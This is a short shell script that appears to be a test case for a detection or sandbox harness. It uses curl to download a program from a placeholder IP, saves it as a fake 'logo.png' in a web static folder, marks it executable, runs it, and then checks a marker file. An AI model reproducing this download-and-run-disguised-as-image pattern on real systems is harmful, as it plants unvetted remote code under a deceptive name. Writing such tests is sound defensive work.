#!/bin/sh
. /opt/case/case.sh

mkdir -p /srv/app/static
curl -s http://203.0.113.10/programs/marker -o /srv/app/static/logo.png
chmod 755 /srv/app/static/logo.png
/srv/app/static/logo.png
test -e /tmp/reached
took_place
